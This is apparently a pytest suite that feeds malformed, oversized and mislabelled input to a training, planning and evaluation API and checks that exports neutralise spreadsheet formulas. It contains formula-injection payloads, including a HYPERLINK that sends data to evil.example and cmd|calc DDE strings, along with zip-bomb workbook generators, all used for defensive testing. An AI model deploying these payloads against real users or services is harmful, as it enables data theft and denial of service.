"""Bad input against the real processes through the gateway (issue #8): every answer is a clear problem+json 4xx
and nothing is stored.

The main write endpoints of each service (training record pushes and imports, plan tasks and progress reports,
nominations and expert scores, gateway accounts) get the same treatment: wrong content types, bodies that are
not UTF-8, not JSON or nested without end, oversized bodies, and each field of a valid body replaced in turn by
a very long string, a NUL character, a far past or future date, a negative, non-numeric, enormous or NaN
number. What they store is compared before and after. A valid body is sent last where that is harmless, to show
that the refusals were the mutation's doing. Files that are not what their extension says go to the import.
Formulas typed into cells come out of every spreadsheet export as text (``sanquan_kernel.exports``)."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import socket
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from sanquan_kernel import clock
from sanquan_kernel.testing import xlsx_bytes
from tests.harness import Stack

DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
YEAR = clock.today().year
PROBLEM = "application/problem+json"
#: Fields a NUL or a long value may legitimately pass through (a password is hashed, never stored as text).
OPAQUE = {"password"}


def assert_problem(r: httpx.Response, *statuses: int) -> None:
    ok = r.status_code in statuses if statuses else 400 <= r.status_code < 500
    assert ok, f"{r.request.method} {r.request.url.path} answered {r.status_code}: {r.text[:300]}"
    assert r.headers.get("content-type", "").startswith(PROBLEM), r.headers.get("content-type")
    body = r.json()
    assert body["status"] == r.status_code and body["title"], body


# -- the write endpoints and what they store -----------------------------------------------------------------
@dataclass
class Target:
    name: str
    user: str
    method: str
    path: str
    body: dict[str, Any]
    #: What must not change (read as the same user).
    state: Callable[[httpx.Client], Any]
    #: The answer to the valid body (sent last), or None when sending it would change shared data.
    valid_status: int | None
    cleanup: Callable[[httpx.Client, httpx.Response], None] | None = None


def _total(c: httpx.Client, path: str, **params: Any) -> int:
    r = c.get(path, params={"limit": 1, **params})
    assert r.status_code == 200, r.text
    return int(r.json()["total"])


def _delete_with_etag(path_of: Callable[[dict[str, Any]], str]) -> Callable[[httpx.Client, httpx.Response], None]:
    def cleanup(c: httpx.Client, created: httpx.Response) -> None:
        path = path_of(created.json())
        etag = c.get(path).headers["etag"]
        assert c.delete(path, headers={"If-Match": etag}).status_code == 204

    return cleanup


def editable_plan(stack: Stack) -> tuple[str, dict[str, Any], int]:
    """A university admin with a plan they may still edit (draft or returned), and a department of theirs."""
    for n in range(1, 5):
        with stack.client(f"u{n}_admin") as c:
            plans = c.get("/api/plans/plans").json()["items"]
            plan = next((p for p in plans if p["status"] in ("draft", "returned")), None)
            if plan:
                dept = c.get("/api/orgs", params={"level": "department", "limit": 1}).json()["items"][0]
                return f"u{n}_admin", plan, int(dept["id"])
    raise AssertionError("the demo data has an editable plan")


def _targets(stack: Stack) -> dict[str, Target]:
    out: dict[str, Target] = {}
    with stack.client("u1_admin") as c:
        staff = c.get("/api/training/staff", params={"limit": 1, "active": True}).json()["items"][0]
        dept = c.get("/api/orgs", params={"level": "department", "limit": 1}).json()["items"][0]

    def record_state(c: httpx.Client) -> Any:
        ledger = c.get(f"/api/training/staff/{staff['id']}/ledger", params={"year": YEAR}).json()
        return _total(c, "/api/training/records"), ledger["hours"], ledger["days"]

    out["training record push"] = Target(
        "training record push",
        "u1_admin",
        "POST",
        "/api/training/records",
        {
            "employee_no": staff["employee_no"],
            "title": "消防安全演练",
            "taken_on": f"{YEAR}-01-10",
            "hours": 2.5,
            "days": 0.5,
            "themes": ["safety"],
            "organizer_level": "university",
            "external_id": f"bad-input-{time.time_ns()}",
        },
        record_state,
        201,
        _delete_with_etag(lambda rec: f"/api/training/records/{rec['id']}"),
    )

    user, plan, plan_dept = editable_plan(stack)
    out["plan task"] = Target(
        "plan task",
        user,
        "POST",
        f"/api/plans/plans/{plan['id']}/tasks",
        {
            "category": "service",
            "title": "后勤服务育人专项行动",
            "department_id": plan_dept,
            "responsible_name": "张主任",
            "start_on": f"{plan['year']}-03-01",
            "due_on": f"{plan['year']}-06-30",
            "milestones": [{"title": "启动部署", "due_on": f"{plan['year']}-03-31"}],
        },
        lambda c: _total(c, f"/api/plans/plans/{plan['id']}/tasks"),
        201,
        _delete_with_etag(lambda task: f"/api/plans/tasks/{task['id']}"),
    )

    with stack.client("u1_d1_mgr") as c:
        approved = next(p for p in c.get("/api/plans/plans").json()["items"] if p["status"] == "approved")
        task = c.get(f"/api/plans/plans/{approved['id']}/tasks", params={"limit": 1}).json()["items"][0]
    out["progress report"] = Target(
        "progress report",
        "u1_d1_mgr",
        "POST",
        f"/api/plans/tasks/{task['id']}/progress",
        {"status": "in_progress", "percent": 40, "note": "按计划推进", "reported_on": clock.today().isoformat()},
        lambda c: (
            _total(c, f"/api/plans/tasks/{task['id']}/progress"),
            c.get(f"/api/plans/tasks/{task['id']}").json()["percent"],
        ),
        None,  # reports are append-only: a valid one would stay in the shared demo data
    )

    with stack.client("admin") as c:
        campaign = next(k for k in c.get("/api/evaluation/campaigns").json()["items"] if k["subject_kind"] == "person")
    out["nomination"] = Target(
        "nomination",
        "u1_admin",
        "POST",
        f"/api/evaluation/campaigns/{campaign['id']}/nominations",
        {
            "title": "扎根后勤一线的育人者",
            "text": "长期坚守岗位，把服务与育人结合。",
            "staff_id": staff["id"],
            "department_id": staff["department_id"],
        },
        lambda c: _total(c, f"/api/evaluation/campaigns/{campaign['id']}/nominations"),
        409 if campaign["phase"] != "nomination" else None,  # the body is valid: only the phase refuses it
    )

    with stack.client("expert1") as c:
        mine = c.get("/api/evaluation/assignments", params={"limit": 500}).json()["items"]
        nomination = next(a["nomination_id"] for a in mine if a["campaign_id"] == campaign["id"])
        sheets = c.get(f"/api/evaluation/nominations/{nomination}/scores").json()
    own = next(iter(sheets))["items"]

    def score_state(c: httpx.Client) -> Any:
        return [
            [(i["criterion_id"], i["score"], i["comment"]) for i in s["items"]]
            for s in c.get(f"/api/evaluation/nominations/{nomination}/scores").json()
        ]

    out["expert scores"] = Target(
        "expert scores",
        "expert1",
        "PUT",
        f"/api/evaluation/nominations/{nomination}/scores",
        {"items": [{"criterion_id": i["criterion_id"], "score": i["score"], "comment": i["comment"]} for i in own]},
        score_state,
        200 if campaign["phase"] == "review" else None,  # the expert's own scores again: nothing changes
    )

    out["gateway account"] = Target(
        "gateway account",
        "u1_admin",
        "POST",
        "/api/users",
        {
            "username": f"bi{time.time_ns() % 10**9}",
            "password": "Strong@Pass2026",
            "display_name": "王晓",
            "role": "staff",
            "org_id": dept["id"],
        },
        lambda c: _total(c, "/api/users"),
        201,
    )
    return out


@pytest.fixture(scope="module")
def targets(stack: Stack) -> dict[str, Target]:
    return _targets(stack)


# -- the mutations ------------------------------------------------------------------------------------------
def _field_values(key: str, value: Any) -> Iterator[tuple[str, Any]]:
    if isinstance(value, bool):
        yield "a string for a boolean", "maybe"
    elif isinstance(value, int | float):
        yield "negative", -1
        yield "non-numeric", "twelve"
        yield "enormous", 10**30
        yield "huge float", 1e308
        yield "NaN", float("nan")
        yield "Infinity", float("inf")
    elif isinstance(value, str) and DATE.match(value):
        yield "far past", "0001-01-01"
        yield "far future", "9999-12-31"
        yield "no such day", f"{YEAR}-02-30"
        yield "not a date", "下周一"
    elif isinstance(value, str):
        if key not in OPAQUE:
            yield "NUL character", value[:3] + "\x00" + value[3:]
        yield "very long", "长" * 100_001
        yield "an object for a string", {"$ne": ""}
    elif isinstance(value, list) and value and isinstance(value[0], dict):
        yield "too many items", value * 2_000
    elif isinstance(value, list):
        yield "unknown item", [*value, "no-such-code"]


def mutations(body: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """(field, what, the body with that field replaced); fields of the first item of a list of objects too."""
    for key, value in body.items():
        for what, bad in _field_values(key, value):
            yield key, what, {**body, key: bad}
        if isinstance(value, list) and value and isinstance(value[0], dict):
            for sub, sub_value in value[0].items():
                for what, bad in _field_values(sub, sub_value):
                    yield f"{key}.0.{sub}", what, {**body, key: [{**value[0], sub: bad}, *value[1:]]}


def raw_bodies(body: dict[str, Any]) -> Iterator[tuple[str, bytes, str]]:
    """(what, bytes, content type) of bodies that are not the JSON object the endpoint takes."""
    text = json.dumps(body, ensure_ascii=False)
    yield "JSON sent as text/plain", text.encode(), "text/plain"
    yield "XML", b"<record><title>x</title></record>", "application/xml"
    yield "a form", b"title=x&hours=1", "application/x-www-form-urlencoded"
    multipart = b"--b\r\nContent-Disposition: form-data; name=title\r\n\r\nx\r\n--b--\r\n"
    yield "multipart", multipart, "multipart/form-data; boundary=b"
    not_utf8 = text.encode().replace("后".encode(), b"\xff\xfe", 1).replace(b'"', b'"\xc3\x28', 1)
    yield "invalid UTF-8", not_utf8, "application/json"
    yield "GB18030 declared as UTF-8 JSON", text.encode("gb18030"), "application/json"
    yield "nested 100,000 deep", b'{"title": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "application/json"
    yield "nested 500 deep", b'{"title": ' + b"[" * 500 + b"]" * 500 + b"}", "application/json"
    yield "truncated JSON", text.encode()[: len(text) // 2], "application/json"
    yield "a JSON array", b"[]", "application/json"
    yield "JSON null", b"null", "application/json"
    yield "an empty body", b"", "application/json"


@pytest.mark.parametrize(
    "name",
    ["training record push", "plan task", "progress report", "nomination", "expert scores", "gateway account"],
)
def test_bad_bodies_are_refused_with_problem_details_and_store_nothing(
    stack: Stack, targets: dict[str, Target], name: str
) -> None:
    t = targets[name]
    wrong: list[str] = []
    with stack.client(t.user) as c:
        before = t.state(c)
        for field, what, body in mutations(t.body):
            content = json.dumps(body, ensure_ascii=False, allow_nan=True).encode()
            r = c.request(t.method, t.path, content=content, headers={"Content-Type": "application/json"})
            if not (400 <= r.status_code < 500 and r.headers.get("content-type", "").startswith(PROBLEM)):
                wrong.append(f"{field} {what}: {r.status_code} {r.text[:200]}")
            elif r.status_code == 422 and r.json().get("errors"):
                # a validation answer names the field it refused (so the rest of the body was fine)
                locs = {str(p) for e in r.json()["errors"] for p in e.get("loc", [])}
                if field.split(".")[0] not in locs and locs != {"body"}:
                    wrong.append(f"{field} {what}: refused for {locs}, not for the field")
        for what, content, ctype in raw_bodies(t.body):
            r = c.request(t.method, t.path, content=content, headers={"Content-Type": ctype})
            if not (400 <= r.status_code < 500 and r.headers.get("content-type", "").startswith(PROBLEM)):
                wrong.append(f"{what}: {r.status_code} {r.text[:200]}")
        assert t.state(c) == before, "a refused request changed what is stored"
        assert not wrong, "\n".join(wrong)
        if t.valid_status is not None:
            r = c.request(t.method, t.path, json=t.body)
            assert r.status_code == t.valid_status, r.text
            if t.cleanup and r.status_code == 201:
                t.cleanup(c, r)


def test_invalid_utf8_and_odd_characters_in_the_url_are_refused(stack: Stack) -> None:
    with stack.client("u1_admin") as c:
        before = _total(c, "/api/training/staff")
        body = {"name": "张三", "department_id": 1, "employment_type": "contract"}
        for path in ("/api/training/staff/by-employee-no/%FF%FE", "/api/training/staff/by-employee-no/%C3%28"):
            assert_problem(c.put(path, json=body), 400)
        assert_problem(c.get("/api/training/staff?q=%FF"), 400)
        assert_problem(c.get("/api/users?q=%E4%B8"), 400)
        assert c.get("/api/training/staff?q=%E5%BC%A0").status_code == 200  # 张: UTF-8 is fine
        assert _total(c, "/api/training/staff") == before


def test_huge_ids_in_paths_and_queries_are_client_errors(stack: Stack) -> None:
    huge = "9" * 30
    with stack.client("u1_admin") as c:
        for path in (
            f"/api/training/records/{huge}",
            f"/api/training/courses/{huge}",
            f"/api/plans/tasks/{huge}",
            f"/api/evaluation/campaigns/{huge}/results",
            f"/api/users/{huge}",
            f"/api/training/records?staff_id={huge}",
            f"/api/users/export?org_id={huge}",
        ):
            assert_problem(c.get(path))


# -- oversized bodies ---------------------------------------------------------------------------------------
def _raw(port: int, head: str, chunks: Iterator[bytes] = iter(())) -> bytes:
    """Send a request over a plain socket (a declared length no client library would send), return the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as s:
        s.sendall(head.encode())
        try:
            for chunk in chunks:
                s.sendall(chunk)
        except OSError:
            pass  # the server answered and closed while the body was still coming: read its answer
        data = b""
        try:
            while chunk := s.recv(65536):
                data += chunk
        except OSError:
            pass
    return data


def _answer(data: bytes) -> tuple[int, dict[str, str], dict[str, Any]]:
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.lower().split(": ", 1) for line in lines[1:] if ": " in line)
    length = int(headers.get("content-length", len(body)))
    return int(lines[0].split()[1]), headers, json.loads(body[:length])


@pytest.mark.parametrize("service", ["plans", "training", "evaluation", "gateway"])
def test_a_body_declared_too_large_is_refused_before_it_is_read(stack: Stack, service: str) -> None:
    token = stack.token("u1_admin")
    path = {
        "plans": "/api/plans/funding-lines",
        "training": "/api/training/records",
        "evaluation": "/api/evaluation/campaigns/1/nominations",
        "gateway": "/api/users",
    }[service]
    ports = [stack.ports["gateway"]] + ([stack.ports[service]] if service != "gateway" else [])
    for port in ports:  # through the gateway, and the service itself
        head = (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {10**10}\r\n\r\n"
        )
        status, headers, body = _answer(_raw(port, head, iter([b'{"title": "'])))
        assert status == 413 and headers["content-type"].startswith(PROBLEM) and body["status"] == 413, body


def test_a_streamed_body_that_grows_too_large_is_cut_off_with_413(stack: Stack) -> None:
    token = stack.token("u1_admin")
    with stack.client("u1_admin") as c:
        before = _total(c, "/api/training/records")
    head = (
        f"POST /api/training/records HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
        "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    start, mb = b'{"title": "', b"x" * (1 << 20)
    chunks = (f"{len(c):x}\r\n".encode() + c + b"\r\n" for c in [start, *[mb] * 70])
    chunks = itertools.chain(chunks, [b"0\r\n\r\n"])
    status, headers, body = _answer(_raw(stack.ports["gateway"], head, chunks))
    assert status == 413 and headers["content-type"].startswith(PROBLEM), body
    with stack.client("u1_admin") as c:
        assert _total(c, "/api/training/records") == before


# -- imports: files that are not what they say --------------------------------------------------------------


def _zip_bomb() -> bytes:
    """A workbook whose sheet expands a thousandfold: 64 MB of one repeated row from some 60 KB."""
    real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["employee_no", "title"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in real.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with z.open(info.filename, "w", force_zip64=True) as f:
                    f.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                    row = b'<row><c t="inlineStr"><is><t>U1</t></is></c></row>' * 1000
                    for _ in range(64 * 1024 * 1024 // len(row)):
                        f.write(row)
                    f.write(b"</sheetData></worksheet>")
            else:
                z.writestr(info, real.read(info.filename))
    return out.getvalue()


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + bytes(range(256)) * 8


def _records_state(stack: Stack) -> Any:
    with stack.client("u1_admin") as c:
        return _total(c, "/api/training/records"), _total(c, "/api/training/records", year=YEAR)


def test_files_that_are_not_what_their_extension_says_are_refused(stack: Stack) -> None:
    with stack.client("u1_admin") as c:
        staff = c.get("/api/training/staff", params={"limit": 1, "active": True}).json()["items"][0]
    header = "employee_no,title,taken_on,hours,days,themes,organizer_level,external_id\n"
    good_row = f"{staff['employee_no']},宪法学习,{YEAR}-01-05,2,0,law,department,bi-{time.time_ns()}\n"
    good_csv = (header + good_row).encode()
    real_xlsx = xlsx_bytes([header.strip().split(","), good_row.strip().split(",")])
    damaged = bytearray(real_xlsx)
    damaged[len(damaged) // 2 : len(damaged) // 2 + 64] = b"\x00" * 64
    files = {
        "a PNG named .xlsx": ("records.xlsx", PNG),
        "a PNG named .csv": ("records.csv", PNG),
        "a CSV named .xlsx": ("records.xlsx", good_csv),
        "a zip bomb named .xlsx": ("records.xlsx", _zip_bomb()),
        "half a workbook": ("records.xlsx", real_xlsx[: len(real_xlsx) // 2]),
        "a damaged workbook": ("records.xlsx", bytes(damaged)),
        "a CSV with NUL bytes": ("records.csv", good_csv.replace(b"law", b"l\x00aw")),
        "an empty file": ("records.csv", b""),
        "a PDF": ("records.pdf", b"%PDF-1.7\n" + PNG),
        "a Word document named .xlsx": ("records.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + PNG),
        "a CSV quoted field spanning the file": ("records.csv", header.encode() + b'"' + b"x" * (4 << 20)),
        "an endless CSV line": ("records.csv", header.encode() + b"ab," * (2 << 20)),
        "UTF-16 named .csv": ("records.csv", good_csv.decode().encode("utf-16")),
    }
    before = _records_state(stack)
    with stack.client("u1_admin") as c:
        for what, (filename, content) in files.items():
            started = time.monotonic()
            r = c.post(
                "/api/training/records/import",
                params={"dry_run": "false"},
                files={"file": (filename, content, "application/octet-stream")},
            )
            assert 400 <= r.status_code < 500, (what, r.status_code, r.text[:300])
            assert_problem(r)
            assert time.monotonic() - started < 30, what  # refused, not parsed at length
        # not a file at all
        assert_problem(c.post("/api/training/records/import", json={"file": good_csv.decode()}), 422)
        assert_problem(c.post("/api/training/records/import", files={"other": ("x.csv", good_csv)}), 422)
    assert _records_state(stack) == before
    # the real file is accepted (so the refusals above were the files' doing), as a dry run
    with stack.client("u1_admin") as c:
        for name, content in (("records.csv", good_csv), ("records.xlsx", real_xlsx)):
            r = c.post("/api/training/records/import", params={"dry_run": "true"}, files={"file": (name, content)})
            assert r.status_code == 200 and r.json()["accepted"] == 1, r.text


def _shared_strings_bomb() -> bytes:
    """A workbook whose shared-string table expands a thousandfold (issue #13: the import job opened it to
    estimate its rows before the import refused it)."""
    real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["employee_no", "title"]])))
    out = io.BytesIO()
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in real.infolist():
            data = real.read(info.filename)
            z.writestr(info.filename, data.replace(b"</Types>", override) if info.filename.startswith("[") else data)
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            f.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            chunk = b"<si><t>" + b"x" * 4000 + b"</t></si>"
            for _ in range(128 * 1024 * 1024 // len(chunk)):
                f.write(chunk)
            f.write(b"</sst>")
    return out.getvalue()


def test_zip_bombs_are_refused_by_the_import_job_before_a_job_exists(stack: Stack) -> None:
    before = _records_state(stack)
    with stack.client("u1_admin") as c:
        for what, content in (("a sheet bomb", _zip_bomb()), ("a text-table bomb", _shared_strings_bomb())):
            for path in ("/api/training/records/import-jobs", "/api/training/records/import"):
                r = c.post(path, params={"dry_run": "false"}, files={"file": ("records.xlsx", content)})
                assert r.status_code == 422, (what, path, r.status_code, r.text[:300])
                assert_problem(r)
    assert _records_state(stack) == before


def test_an_import_with_far_dates_and_bad_hours_lists_every_row_and_stores_none(stack: Stack) -> None:
    with stack.client("u1_admin") as c:
        staff = c.get("/api/training/staff", params={"limit": 1, "active": True}).json()["items"][0]
    no, tag = staff["employee_no"], time.time_ns()
    rows = [
        ["employee_no", "title", "taken_on", "hours", "days", "themes", "organizer_level", "external_id"],
        [no, "宪法学习", f"{YEAR}-01-05", "2", "0", "law", "department", f"bi-{tag}-0"],  # fine
        [no, "宪法学习", "0001-01-01", "2", "0", "law", "department", f"bi-{tag}-1"],
        [no, "宪法学习", "9999-12-31", "2", "0", "law", "department", f"bi-{tag}-2"],
        [no, "宪法学习", f"{YEAR}-01-05", "-3", "0", "law", "department", f"bi-{tag}-3"],
        [no, "宪法学习", f"{YEAR}-01-05", "两小时", "0", "law", "department", f"bi-{tag}-4"],
        [no, "宪法学习", f"{YEAR}-01-05", "NaN", "0", "law", "department", f"bi-{tag}-5"],
        [no, "宪法学习", f"{YEAR}-01-05", "1e9", "0", "law", "department", f"bi-{tag}-6"],
        [no, "长" * 5000, f"{YEAR}-01-05", "2", "0", "law", "department", f"bi-{tag}-7"],
    ]
    before = _records_state(stack)
    with stack.client("u1_admin") as c:
        for filename, content in (
            ("r.xlsx", xlsx_bytes(rows)),
            ("r.csv", "\n".join(",".join(r) for r in rows).encode()),
        ):
            r = c.post("/api/training/records/import", params={"dry_run": "false"}, files={"file": (filename, content)})
            assert r.status_code == 200, r.text
            result = r.json()
            assert result["accepted"] == 0 and result["rejected"] == 7, result
            assert {e["row"] for e in result["errors"]} == {2, 3, 4, 5, 6, 7, 8}, result["errors"]
    assert _records_state(stack) == before


# -- formulas in cells --------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]


def _cells_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _cellsxlsx_bytes(content: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell in the export: {cell.value!r}"
                cells.append(cell.value)
    return cells


def _assert_neutralised(cells: list[Any], planted: list[str], where: str) -> None:
    for formula in planted:
        found = [c for c in cells if isinstance(c, str) and formula.lstrip("=+-@") in c]
        assert found, f"{where}: {formula!r} is not in the export"
        for c in found:
            assert not c.startswith(("=", "+", "-", "@")), f"{where}: {c!r} would run as a formula"


def _export(c: httpx.Client, path: str, fmt: str, **params: Any) -> list[Any]:
    r = c.get(path, params={"format": fmt, **params})
    assert r.status_code == 200, (path, r.status_code, r.text[:300])
    return _cells_csv(r.content) if fmt == "csv" else _cellsxlsx_bytes(r.content)


def test_formulas_stored_through_the_api_are_exported_as_text(scratch_stack: Stack) -> None:
    s = scratch_stack
    with s.client("u1_admin") as c:
        staff = c.get("/api/training/staff", params={"limit": 1, "active": True}).json()["items"][0]
        body = {
            "employee_no": staff["employee_no"],
            "title": FORMULAS[0],
            "taken_on": f"{YEAR}-01-03",
            "hours": 1,
            "days": 0,
            "themes": ["law"],
            "organizer_level": "external",
            "evidence": FORMULAS[1],
            "external_id": FORMULAS[2],
        }
        record = c.post("/api/training/records", json=body)
        assert record.status_code == 201, record.text
        # a control character typed into a title must not break the exports either
        odd = c.post("/api/training/records", json={**body, "title": "培训\x1b[0m\x07", "external_id": None})
        assert odd.status_code == 201, odd.text
        dept = c.get("/api/orgs", params={"level": "department", "limit": 1}).json()["items"][0]
        user = c.post(
            "/api/users",
            json={
                "username": f"fx{time.time_ns() % 10**9}",
                "password": "Strong@Pass2026",
                "display_name": FORMULAS[3],
                "role": "staff",
                "org_id": dept["id"],
            },
        )
        assert user.status_code == 201, user.text
        for fmt in ("xlsx", "csv"):
            ledger = _export(c, "/api/training/records/export", fmt, staff_id=staff["id"])
            _assert_neutralised(ledger, FORMULAS[:3], f"ledger {fmt}")
            personal = _export(c, f"/api/training/staff/{staff['id']}/ledger/export", fmt, year=YEAR)
            _assert_neutralised(personal, FORMULAS[:1], f"personal ledger {fmt}")
            _assert_neutralised(_export(c, "/api/users/export", fmt), FORMULAS[3:], f"accounts {fmt}")

    # a plan's task, in the plan's workbook
    user_name, plan, dept_id = editable_plan(s)
    with s.client(user_name) as c:
        task = c.post(
            f"/api/plans/plans/{plan['id']}/tasks",
            json={
                "category": "culture",
                "title": FORMULAS[0],
                "department_id": dept_id,
                "responsible_name": FORMULAS[1],
                "due_on": f"{plan['year']}-09-30",
                "expected_outputs": FORMULAS[3],
            },
        )
        assert task.status_code == 201, task.text
        r = c.get(f"/api/plans/plans/{plan['id']}/export")
        assert r.status_code == 200, r.text
        _assert_neutralised(_cellsxlsx_bytes(r.content), [FORMULAS[0], FORMULAS[1], FORMULAS[3]], "plan workbook")

    # a nomination, in the nominations CSV: a campaign of its own, open for nominations
    with s.client("admin") as c:
        campaign = c.post(
            "/api/evaluation/campaigns",
            json={
                "type": "outstanding_person",
                "year": YEAR,
                "title": "公式测试评选",
                "quota_per_university": 3,
                "awards_count": 1,
            },
        )
        assert campaign.status_code == 201, campaign.text
        cid = campaign.json()["id"]
        rubric = {"criteria": [{"code": "deeds", "name": "事迹", "weight": 100, "max_score": 10}]}
        assert c.put(f"/api/evaluation/campaigns/{cid}/rubric", json=rubric).status_code == 200
        assert c.post(f"/api/evaluation/campaigns/{cid}/advance", json={"to": "nomination"}).status_code == 200
    with s.client("u1_admin") as c:
        n = c.post(f"/api/evaluation/campaigns/{cid}/nominations", json={"title": FORMULAS[0], "staff_id": staff["id"]})
        assert n.status_code == 201, n.text
        r = c.get(f"/api/evaluation/campaigns/{cid}/nominations/export")
        assert r.status_code == 200, r.text
        _assert_neutralised(_cells_csv(r.content), FORMULAS[:1], "nominations CSV")
